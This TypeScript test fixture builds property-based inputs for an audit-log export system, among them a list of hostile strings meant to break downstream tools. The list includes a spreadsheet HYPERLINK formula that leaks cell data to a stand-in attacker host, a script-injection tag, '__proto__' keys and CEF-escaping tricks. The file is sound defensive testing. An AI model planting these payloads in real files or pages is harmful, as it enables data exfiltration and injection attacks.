import fc from 'fast-check'
import { type ExportedLeaf, exportedLeaf } from '../../../services/auditor/export-formats/index.ts'
import { leafOf } from '../../../services/auditor/leaves/index.ts'
import type { Recorded } from '../../../shared/events/decoded-record-cache.ts'
import { encodeEvent } from '../../../shared/events/event-codec.ts'
import { eventExamples } from '../../../shared/events/examples.ts'
import { partPersonal } from '../../../shared/events/personal-fields.ts'
import { upcast } from '../../../shared/events/upcast.ts'
import { anyText } from '../fakes/any-text.ts'
import { source } from '../fakes/builders.ts'
import { host, logId } from './drawn-trail.ts'

const place = { log: `${host}/${logId}/3`, life: logId, partition: 3, index: 2 ** 40 }

function leafOfEvent(recorded: Recorded): ExportedLeaf {
  const request = '4bf92f3577b34da6a3ce929d0e0e4736'
  const { key, headers, value } = encodeEvent(source, { ...recorded, request })
  const raw = { topic: 'auth.events', partition: 3, offset: place.index, key, headers, value }
  return exportedLeaf(place, leafOf(logId, raw as Parameters<typeof leafOf>[1]).bytes)
}

/** The leaf of each type and version of event, as it comes out of a trail. */
export const exampleLeaves: readonly ExportedLeaf[] = eventExamples.map(({ id, at, stored }) =>
  leafOfEvent({ id, at, event: upcast(stored) }),
)

/** The same without what they say of persons, which is sealed. */
export const sealedLeaves: readonly ExportedLeaf[] = eventExamples.flatMap(({ id, at, stored }) => {
  const { rest, fields } = partPersonal(upcast(stored))
  const personal = '1;c0de;a:c2VhbGVkIHVuZGVyIGEga2V5IHRoYXQgbm9ib2R5IGhhcyBhbnkgbW9yZQ'
  return fields.size === 0 ? [] : [leafOfEvent({ id, at, event: rest, personal })]
})

/** What tools of others trip over. */
const hostileTexts = [
  '',
  "'",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  'Mozilla;=1+1; x',
  ";';'=;;@\t\t'\r\n-1",
  '＝1',
  '"quoted", and, commas',
  'one\r\ntwo\nthree\rfour',
  'CEF:0|a|b\\=c|d=e f=g\\',
  '\u2028\u2029\u0085\u000b\u000c\u001c',
  '<script>alert(1)</script>',
  '𐏿𝄞😀',
  '\ud800',
  'tail\udfff',
  '\u0000',
  'x'.repeat(20_000),
  '__proto__',
] as const
const hostileText = fc.constantFrom(...hostileTexts)
const text = fc.oneof(hostileText, anyText())
const member = fc.oneof(text, fc.integer(), fc.constant(null), fc.boolean(), fc.array(text))

const dataNames = [
  ...['sub', 'sid', 'jti', 'client', 'address', 'agent', 'reason', 'username', 'account'],
  ...['key', 'path', 'code', 'actor', 'scope', 'cause', 'kind', '__proto__'],
] as const
const eventNames = [
  ...['id', 'type', 'source', 'subject', 'time', 'dataschema', 'actor', 'request', 'data_base64'],
] as const

const drawnMembers = (names: readonly string[]) =>
  fc.dictionary(fc.constantFrom(...names), member, { maxKeys: 6, noNullPrototype: true })

/** An event as it should be, with members that whoever may write to the topic chose. */
export const drawnLeaf: fc.Arbitrary<ExportedLeaf> = fc
  .record({
    example: fc.constantFrom(...exampleLeaves),
    attributes: fc.oneof(fc.constant({}), drawnMembers(eventNames)),
    data: fc.oneof(drawnMembers(dataNames), member),
    isOwn: fc.boolean(),
  })
  .map(({ example, attributes, data, isOwn }) => {
    const { event } = example
    const isObject = typeof data === 'object' && data !== null && !Array.isArray(data)
    const drawn = isObject && isOwn ? { ...(event['data'] as object), ...data } : data
    return exportedLeaf(
      place,
      Buffer.from(JSON.stringify({ ...event, ...attributes, data: drawn })),
    )
  })

const each = (names: readonly string[], value: string): Readonly<Record<string, string>> =>
  Object.fromEntries(names.map((name) => [name, value]))

/** Of each type of event, with each of these texts in every member at once. */
export const hostileLeaves: readonly ExportedLeaf[] = exampleLeaves.flatMap(({ event }) =>
  hostileTexts.map((hostile) => {
    const { type } = event
    const written = { ...each(eventNames, hostile), type, data: each(dataNames, hostile) }
    return exportedLeaf(place, Buffer.from(JSON.stringify(written)))
  }),
)
